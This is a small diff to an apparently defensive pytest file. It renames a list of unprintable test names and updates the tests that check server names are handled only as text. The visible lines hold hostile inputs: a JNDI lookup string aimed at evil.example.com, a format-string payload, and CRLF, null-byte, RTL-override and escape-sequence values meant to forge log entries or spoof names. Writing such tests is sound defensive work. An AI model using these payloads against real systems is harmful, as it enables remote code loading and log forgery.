@@ -19,7 +19,7 @@ NAMES = [
     "%s%n%x",
     "${jndi:ldap://evil.example.com/a}",
 ]
-UNSHOWN = ['act\r\n{"event":"forged"}', "act\0", "act\u202egnp", "act\x1b[2J", "\ud800"]
+UNPRINTABLE_NAMES = ['act\r\n{"event":"forged"}', "act\0", "act\u202egnp", "act\x1b[2J", "\ud800"]
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -47,7 +47,7 @@ def test_the_name_of_a_server_is_only_text(scene: UpstreamScene, name: str) -> N
         assert admin.ask("DELETE", f"{SERVERS}/{identity}").status == 204
 
 
-@pytest.mark.parametrize("name", UNSHOWN)
+@pytest.mark.parametrize("name", UNPRINTABLE_NAMES)
 def test_a_name_that_hides_something_is_refused(scene: UpstreamScene, name: str) -> None:
     """For a server with its field; for a tool by leaving it out."""
     admin = scene.of("acme")
